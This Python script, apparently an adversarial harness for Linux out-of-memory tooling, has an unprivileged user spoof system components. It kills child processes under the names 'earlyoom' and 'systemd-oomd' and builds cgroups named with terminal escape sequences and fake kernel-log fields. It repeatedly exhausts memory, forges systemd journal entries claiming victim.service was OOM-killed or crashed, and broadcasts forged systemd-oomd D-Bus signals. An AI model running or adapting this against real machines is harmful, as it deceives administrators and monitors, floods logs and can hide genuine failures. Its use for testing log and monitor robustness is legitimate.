# What a user without rights can do to be believed or to drown others, until the file $1 is there: kills under a killer's name, cgroups with
# names that read like another's, kills at their own limits as fast as they come, forged journal entries and D-Bus signals.
import ctypes, os, signal, socket, subprocess, sys, threading, time

IS_OVER = sys.argv[1]
OWN = "/sys/fs/cgroup" + open("/proc/self/cgroup").read().split("::", 1)[1].strip()
OTHER = "/system.slice/victim.service"
# Each is legal, and each reads like something else in a line of the kernel's log, a path, a terminal.
NAMES = [
    b"a,task_memcg=" + OTHER.replace("/", "_").encode(), b"a,task=python3,pid=1,uid=0", b"victim.service", b"system.slice",
    b"docker-" + b"a" * 64 + b".scope", b"bad\xff\xfe.service", b"\x1b[2J\x1b]0;forged\x07", b"@sshd.service",
    # Nested, as the other's path would be.
    b"a,task_memcg=" + OTHER.encode() + b"/x",
]

def is_over():
    return os.path.exists(IS_OVER)

def write(path, text):
    with open(path, "w") as file:
        file.write(text)

def called(name):
    ctypes.CDLL(None).prctl(15, name, 0, 0, 0)

def kill_own(name):
    """Kills children, each many times, under a killer's name."""
    called(name)
    while not is_over():
        child = os.fork()
        if not child:
            signal.pause()
        for _ in range(100):
            os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)

def made(below, name):
    """A cgroup with this name, whose parents hand memory on to it."""
    for part in name.split(b"/"):
        write(below + b"/cgroup.subtree_control", "+memory")
        below += b"/" + part
        os.makedirs(below, exist_ok=True)
    return below

def run_out():
    """Meets limits of its own, in cgroups of such names."""
    while not is_over():
        for name in NAMES:
            path = made(OWN.encode() + b"/out", name)
            write(path + b"/memory.max", str(4 << 20))
            child = os.fork()
            if not child:
                write(path + b"/cgroup.procs", "0")
                called(b"sshd\n\x1b[2J")
                held = []
                while True:
                    held.append(bytearray(b"x" * 4096) * 64)
            os.waitpid(child, 0)

def entry(fields):
    return b"".join(name.encode() + b"=" + value.encode() + b"\n" for name, value in fields.items())

def forge_entries():
    """Says what systemd, its coredump handler and systemd-oomd say."""
    journal = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    unit = {"UNIT": "victim.service", "OBJECT_SYSTEMD_UNIT": "victim.service", "SYSLOG_IDENTIFIER": "systemd", "PRIORITY": "3"}
    entries = [
        {**unit, "MESSAGE_ID": "fe6faa94e7774663a0da52717891d8ef", "MESSAGE": "victim.service: forged: A process of this unit has been killed by the OOM killer."},
        {**unit, "MESSAGE_ID": "d9b373ed55a64feb8242e02dbe79a49c", "UNIT_RESULT": "oom-kill", "MESSAGE": "victim.service: forged: Failed with result 'oom-kill'."},
        {**unit, "MESSAGE_ID": "fc2e22bc6ee647b6b90729ab34a250b1", "COREDUMP_UNIT": "victim.service", "COREDUMP_SIGNAL_NAME": "SIGSEGV", "MESSAGE": "forged crash"},
        {**unit, "SYSLOG_IDENTIFIER": "systemd-oomd", "MESSAGE": f"Killed {OTHER} due to memory used being forged"},
        {**unit, "SYSLOG_IDENTIFIER": "kernel", "SYSLOG_FACILITY": "0", "MESSAGE": "Memory cgroup out of memory: Killed process 1 (forged) total-vm:1kB, anon-rss:1kB, file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:1kB oom_score_adj:0"},
    ]
    while not is_over():
        for each in entries:
            journal.sendto(entry(each), "/run/systemd/journal/socket")
        time.sleep(0.5)

def forge_signals():
    """Broadcasts what systemd-oomd does when it kills."""
    while not is_over():
        for path in (OTHER, "/", "/system.slice"):
            subprocess.run(["busctl", "emit", "/org/freedesktop/oom1", "org.freedesktop.oom1.Manager", "Killed", "ss", path, "forged"], check=False)
        time.sleep(0.5)

# Whoever delegates memory to others sits in a cgroup of its own.
os.makedirs(OWN + "/in", exist_ok=True)
write(OWN + "/in/cgroup.procs", "0")
os.makedirs(OWN + "/out", exist_ok=True)
write(OWN + "/cgroup.subtree_control", "+memory")
# Who is about to meet a limit is believed to be killed for that.
held = []
while int(open(OWN + "/memory.current").read()) < int(open(OWN + "/memory.max").read()) - (10 << 20):
    held.append(bytearray(b"x" * 4096) * 256)
for name in (b"earlyoom", b"systemd-oomd"):
    if not os.fork():
        kill_own(name)
        os._exit(0)
for forge in (forge_entries, forge_signals):
    threading.Thread(target=forge).start()
run_out()
